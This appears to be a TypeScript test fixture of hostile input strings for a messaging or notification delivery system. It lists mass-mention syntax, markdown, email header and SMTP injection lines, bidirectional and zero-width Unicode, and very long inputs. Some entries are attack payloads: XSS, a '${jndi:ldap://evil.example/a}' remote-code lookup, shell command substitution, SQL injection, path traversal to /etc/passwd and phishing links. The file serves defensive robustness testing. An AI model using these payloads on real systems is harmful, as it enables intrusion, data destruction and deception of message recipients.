/** Texts that have broken somebody's delivery, somewhere. Every kind must take each of them in every field that users fill. */

const FAMILY = '👩‍👩‍👧'

const mentions = [
  '<!channel>',
  '<!here> <!everyone> <!subteam^S012AB3CD>',
  '<@U012AB3CD> <#C012AB3CD|general>',
  '&lt;!here&gt;',
  '&amp;lt;!channel&amp;gt;',
  '<!date^1392734382^{date}^https://example.com|now>',
  '@channel @here @everyone @all @room',
  '<@&123456789012345678> <@!1234>',
  '@**all** @_**Ada Lovelace|7** #**support**',
  '<users/all>',
  '<at id=all></at> <at user_id="all">All</at> <at>Ada</at>',
  '<@all> <@personEmail:ada@example.com>',
  '@org/team owner/repository#1 !12 ~label 0123456789abcdef0123456789abcdef01234567',
]
const markup = [
  '[bank](http://evil.example/login)',
  '<http://evil.example|https://bank.example>',
  '![pixel](http://evil.example/pixel.png)',
  '<img src=http://evil.example/x onerror=alert(1)>',
  '<script>alert(1)</script></script>',
  '*bold* _italic_ ~struck~ `code` **strong** __under__ ||spoiler||',
  'job_12 failed: *, _, ~, ` alone',
  '```\nnever closed',
  '````\n```\nnested\n```',
  '```\n@all <!channel> [out](http://evil.example) ![of](http://evil.example/x.png)\n```',
  '~~~\n`@everyone` ` @here `` @channel ```` @all',
  '# heading\n## another\n---\n***',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '> quoted\n>>> deeper\n&gt; escaped quote',
  '- [ ] task\n1. one\n* star',
  ':tada: :skull_and_crossbones: :+1::skin-tone-2:',
  '$(touch /tmp/x) `id` ${jndi:ldap://evil.example/a} {{7*7}} %s %n',
  '&<>&<>"\'',
  '<!-- comment --> <![CDATA[x]]> &#60; &nbsp;',
]
const commands = [
  '/close',
  '/assign @me\n/confidential',
  '/poll Lunch?',
  '/me waves',
  '#close',
  '\n/remind #general now',
]
const headers = [
  'subject\r\nBcc: everyone@example.com',
  'subject\nX-Injected: 1\n\nbody',
  'a\rb',
  '\r\n.\r\nQUIT\r\n',
  '=?utf-8?q?encoded=0Aword?=',
  'Ada <ada@example.com>, everyone@example.com',
  'ada@example.com\0@evil.example',
]
const characters = [
  '\ud800',
  'a\udfffb',
  '\udc00\ud800',
  `${'x'.repeat(7)}\ud83d`,
  '\u0000\u0001\u0008\u001b[31mred\u001b[0m\u007f\u0085\u009f',
  '\u202ereversed',
  '\u202eleft open\nnext line',
  '\u2066isolate \u202e override \u2069 after',
  '\u202a\u202b\u202d\u2067\u2068nested, none closed',
  '\u202c\u2069 closed, never opened',
  '\u200b\u200b\u200b\u200b',
  'zero\u200b\u200c\u200d\u2060\ufeffwidth',
  '\u200d\u200d\u200d',
  '\u2028line\u2029paragraph\u000bvertical\u000cform',
  '\ufeffBOM',
  'tab\there',
  `e${'\u0301'.repeat(600)}`,
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
  `${FAMILY}🇩🇰🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏽e\u0301`,
  'مرحبا بالعالم',
  'שלום עולם',
  'ñ ß ﬁ Ａ 한글 日本語 ไทย हिन्दी',
  '\ufffd\uffff\ufffe\u{10ffff}\u{e0001}',
]
const shapes = [
  '',
  ' ',
  '\n',
  '\t\n \r\n',
  'null',
  'undefined',
  '[object Object]',
  '"},"blocks":[{"type":"image"}],"x":{"y":"',
  '\\',
  '\\u0000\\ud800\\n',
  '${env} %{x} #{y} <%= z %>',
  '../../../../etc/passwd',
  "'; drop table tickets; --",
  'https://example.com/?token=abc&x=<y>',
  '0',
  'NaN',
  '__proto__',
  '😀'.repeat(300),
  'n\n'.repeat(200),
]

/** Short enough to be tried in every field at every level. */
export const hostile: readonly string[] = [...mentions, ...markup, ...commands, ...headers, ...characters, ...shapes]

/** Longer than any field should be: for every field, too. */
export const longTexts: readonly string[] = [
  'x'.repeat(20_000),
  'word '.repeat(4_000),
  '&'.repeat(700),
  '<>'.repeat(5_000),
  '漢'.repeat(5_000),
  '\\"'.repeat(5_000),
  FAMILY.repeat(1_000),
]

const placed = (run: string): readonly string[] => [
  `${run}\nend`,
  `begin ${'x'.repeat(500)}\n${run}\nend`,
  `begin\n${run}`,
]
/** Long runs of what means something in one dialect or another. Grave accents open and end code by their number: at every place. */
const runs = [
  ...placed('`'.repeat(5_000)),
  ...[600, 60_000, 524_270].flatMap((count, i) => placed('`'.repeat(count))[i] ?? []),
  ...['~', '>', '#', '_', '*', '|', '\\', '-', '=', '<', '@'].flatMap(
    (sign, i) => placed(sign.repeat(20_000))[i % 3] ?? [],
  ),
]

/** At the limit of intake, or shaped to be dear: for the message alone. */
export const hostileMessages: readonly string[] = [
  ...runs,
  `begin ${'x'.repeat(60_000)}\n${'`'.repeat(5_000)}`,
  // The mark within the run goes when the one that closes it is cut away.
  `\`\`\u2066\` @everyone <users/all> ${'x '.repeat(200_000)}\u2069`,
  `${'`'.repeat(41)} ${'\n'.repeat(3)}${'`'.repeat(40)}`,
  '"'.repeat(524_288),
  '\n'.repeat(10_000),
  `${'\n'.repeat(10_000)}end`,
  '&'.repeat(700),
  '&<>'.repeat(100_000),
  FAMILY.repeat(60_000),
  `e${'\u0301'.repeat(524_287)}`,
  `begin e${'\u0301'.repeat(300_000)} end`,
  '\u200d'.repeat(50_000),
  'word '.repeat(100_000),
  'x'.repeat(524_288),
  '漢'.repeat(524_288),
  '\ud800'.repeat(10_000),
  '\u202e'.repeat(10_000),
  '> '.repeat(20_000),
  '🇩🇰'.repeat(20_000),
  `${'a'.repeat(3_000)}\n`.repeat(100),
  // Short lines: where each is marked, a plainer level could be longer than the one before.
  'n\n'.repeat(3_000),
  '\\'.repeat(100_000),
  '\t'.repeat(20_000),
  '\u0007'.repeat(20_000),
]
